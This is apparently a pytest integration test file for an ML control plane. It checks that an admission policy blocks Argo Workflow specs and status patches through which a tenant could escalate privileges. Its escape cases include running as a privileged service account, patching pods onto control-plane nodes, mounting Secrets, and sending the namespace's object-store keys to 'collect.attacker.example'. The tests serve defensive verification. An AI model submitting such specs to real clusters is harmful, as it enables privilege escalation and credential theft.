"""Bob, an `edit` member of vision, runs what he likes through a Workflow: Argo's controller creates the pods.

Members create Workflows to start runs, and RBAC cannot look inside one: a Workflow with its own `templates`, a
`serviceAccountName`, a `podSpecPatch`, a Secret volume or artifacts fetched with the namespace's credentials
ran as any account of vision (the trainer, which creates TrainJobs), read any Secret there and skipped every check
`mlcp validate` makes of a pipeline (placement, security context, references to mlcp's own Secrets). Argo keeps
no status subresource, so `update` on a started run rewrote the spec Argo executes (its stored copy), the
artifact repository it resolved or the volumes it deletes. The shipped admission policy (`mlcp-tenant-workflows`,
deploy/kustomize/base/admission-policies.yaml) lets a person's run name a governed template and its parameters,
stop or suspend it, and change only the status a retry or resume changes; Argo's controller (cluster-wide) runs
the run as before.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from controlplane import runs
from controlplane.rendering import admission
from devenv import testing
from tests.integration import argo_support as argo
from tests.integration import configrepo, kind_support

pytestmark = pytest.mark.integration
BOB = "bob@example.com"
TRAIN = argo.TRAIN
CONTROL_PLANE = {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}
S3_WITH_THE_NAMESPACES_KEYS = {
    "endpoint": "collect.attacker.example:443",
    "bucket": "loot",
    "key": "in",
    "accessKeySecret": {"name": "object-store", "key": "accesskey"},
    "secretKeySecret": {"name": "object-store", "key": "secretkey"},
}
ESCAPES: dict[str, dict[str, Any]] = {  # what Bob puts in the spec of a run of vision's pipeline
    "own templates as the trainer": {
        "entrypoint": "main",
        "serviceAccountName": "mlcp-trainer",
        "templates": [{"name": "main", "container": {"image": "ghcr.io/bob/anything:1", "command": ["sh"]}}],
    },
    "the governed template as the trainer": {
        "workflowTemplateRef": {"name": TRAIN},
        "serviceAccountName": "mlcp-trainer",
    },
    "a pod patch onto the control plane": {
        "workflowTemplateRef": {"name": TRAIN},
        "podSpecPatch": '{"tolerations": [{"operator": "Exists"}], "nodeName": "control-plane-0"}',
    },
    "tolerations of the control plane": {"workflowTemplateRef": {"name": TRAIN}, "tolerations": [CONTROL_PLANE]},
    "a Secret volume": {
        "workflowTemplateRef": {"name": TRAIN},
        "volumes": [{"name": "loot", "secret": {"secretName": "object-store"}}],
    },
    "a ClusterWorkflowTemplate": {"workflowTemplateRef": {"name": TRAIN, "clusterScope": True}},
    "artifacts fetched with the namespace's keys": {
        "workflowTemplateRef": {"name": TRAIN},
        "arguments": {"artifacts": [{"name": "data", "s3": S3_WITH_THE_NAMESPACES_KEYS}]},
    },
    "a parameter read from elsewhere": {
        "workflowTemplateRef": {"name": TRAIN},
        "arguments": {"parameters": [{"name": "epochs", "valueFrom": {"configMapKeyRef": {"name": "x", "key": "y"}}}]},
    },
    "another executor's defaults": {"workflowTemplateRef": {"name": TRAIN}, "executor": {"serviceAccountName": "x"}},
}


@pytest.fixture
def repo(tmp_path: Path, prefix: str, kubeconfig: Path) -> Iterator[configrepo.ConfigRepo]:
    repo = configrepo.make(tmp_path, prefix)
    kind_support.apply(repo, kubeconfig, trusted=True)
    yield repo


def _run(spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": "/".join(argo.ARGO), "kind": "Workflow", "metadata": {"generateName": "r-"}, "spec": spec}


def _refused(call: Callable[[], Any], what: object = "") -> str:
    with pytest.raises(client.ApiException) as refused:
        call()
        pytest.fail(f"not refused: {what}")
    assert refused.value.status == 403, refused.value.body
    body = str(refused.value.body)
    assert admission.WORKFLOW_POLICY in body, body  # refused by the policy, not by RBAC (Bob may create runs)
    return body


@pytest.mark.parametrize("escape", sorted(ESCAPES))
def test_a_members_run_cannot_choose_what_argo_runs(
    repo: configrepo.ConfigRepo, k8s_user: Callable[..., client.ApiClient], escape: str
) -> None:
    bob = argo.argo(k8s_user(BOB))
    _refused(lambda: bob.create_namespaced_custom_object(*argo.ARGO, repo.vision, "workflows", _run(ESCAPES[escape])))


def test_a_member_still_starts_runs_as_mlcp_run_and_argo_submit_do(
    repo: configrepo.ConfigRepo, k8s_user: Callable[..., client.ApiClient]
) -> None:
    bob = argo.argo(k8s_user(BOB))
    request = runs.RunRequest(TRAIN, "vision", repo.vision, {"epochs": "3"})
    submitted = {**_run({"workflowTemplateRef": {"name": TRAIN}, "arguments": {"parameters": [{"name": "a"}]}})}
    submitted["metadata"] = {"generateName": f"{TRAIN}-", "labels": {"workflows.argoproj.io/workflow-template": TRAIN}}
    for body in (runs.workflow_manifest(request), submitted):
        bob.create_namespaced_custom_object(*argo.ARGO, repo.vision, "workflows", body, dry_run="All")


def test_a_member_cannot_rewrite_what_argo_runs_of_a_started_run(
    repo: configrepo.ConfigRepo,
    devenv: testing.TestTarget,
    k8s_admin: client.ApiClient,
    k8s_user: Callable[..., client.ApiClient],
) -> None:
    """Argo copies the template into the run's status and executes that copy; Bob edits the copy, the artifact
    repository Argo resolved and the volumes it deletes when the run ends. He may still stop it and retry it with a
    parameter of his choice (what `argo retry -p` writes there)."""
    argo.require_argo(devenv)
    ns, bob = repo.vision, argo.argo(k8s_user(BOB))
    run = _run({"workflowTemplateRef": {"name": TRAIN}})
    name = bob.create_namespaced_custom_object(*argo.ARGO, ns, "workflows", run)["metadata"]["name"]

    def stored() -> dict[str, Any] | None:
        wf: dict[str, Any] = argo.argo(k8s_admin).get_namespaced_custom_object(*argo.ARGO, ns, "workflows", name)
        return wf if wf.get("status", {}).get("storedWorkflowTemplateSpec") else None

    started = argo.wait(stored, 60, f"Argo's controller to store the spec of {ns}/{name}")  # the controller writes
    assert started["status"]["storedWorkflowTemplateSpec"]["serviceAccountName"] == "mlcp-workload"
    escapes = [
        {"status": {"storedWorkflowTemplateSpec": {"serviceAccountName": "mlcp-trainer"}}},
        {"status": {"storedTemplates": {"namespaced/x/main": {"name": "main", "container": {"image": "bob:1"}}}}},
        {"status": {"artifactRepositoryRef": {"artifactRepository": {"s3": S3_WITH_THE_NAMESPACES_KEYS}}}},
        {"status": {"persistentVolumeClaims": [{"name": "ws", "persistentVolumeClaim": {"claimName": "explore"}}]}},
        {"status": {"storedWorkflowTemplateSpec": None}},  # Argo would fetch the template again, with Bob's spec
        {"spec": {"workflowTemplateRef": {"name": "another"}}},
        {"spec": {"serviceAccountName": "mlcp-trainer"}},
    ]
    for patch in escapes:
        _refused(lambda p=patch: bob.patch_namespaced_custom_object(*argo.ARGO, ns, "workflows", name, p), patch)
    bob.patch_namespaced_custom_object(*argo.ARGO, ns, "workflows", name, {"spec": {"shutdown": "Stop"}})
    stored_params = started["status"]["storedWorkflowTemplateSpec"]["arguments"]["parameters"]
    retried = [{"name": stored_params[0]["name"], "value": "7"}, *stored_params[1:]]
    retry = {  # what `argo retry -p <first>=7` writes: the run restarts, with the parameter, not stopped
        "spec": {"shutdown": None, "arguments": {"parameters": retried}},
        "status": {
            "phase": "Running",
            "message": None,
            "finishedAt": None,
            "nodes": None,
            "persistentVolumeClaims": None,
            "storedWorkflowTemplateSpec": {"shutdown": None, "arguments": {"parameters": retried}},
        },
    }
    bob.patch_namespaced_custom_object(*argo.ARGO, ns, "workflows", name, retry)
    valued = {"status": {"storedWorkflowTemplateSpec": {"arguments": {"parameters": [{"name": "x", "valueFrom": {
        "configMapKeyRef": {"name": "x", "key": "y"}}}]}}}}  # fmt: skip
    _refused(lambda: bob.patch_namespaced_custom_object(*argo.ARGO, ns, "workflows", name, valued), valued)
    wf = argo.argo(k8s_admin).get_namespaced_custom_object(*argo.ARGO, ns, "workflows", name)
    executed, reviewed = wf["status"]["storedWorkflowTemplateSpec"], started["status"]["storedWorkflowTemplateSpec"]
    assert (executed["serviceAccountName"], executed["templates"]) == ("mlcp-workload", reviewed["templates"])
